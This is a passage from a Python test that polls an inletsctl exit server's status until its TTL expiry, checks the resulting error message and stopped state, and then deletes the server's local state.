        status = run_cli(capsys, "status", "tt", "--json", "--state-dir", str(state))
        while status.json().get("state") in (None, "unreachable") and time.monotonic() < deadline:
            time.sleep(0.3)
            status = run_cli(capsys, "status", "tt", "--json", "--state-dir", str(state))
        one_line_error(status, f"exit server tt ended at its --ttl expiry ({expires}), as asked: remove its local "
                               f"state with: inletsctl delete tt --state-dir {state}, then create it again")
        assert status.json()["state"] == "stopped" and "not running" not in status.json()["error"], status.out
    finally:
        assert run_cli(capsys, "delete", "tt", "--state-dir", str(state)).code == 0
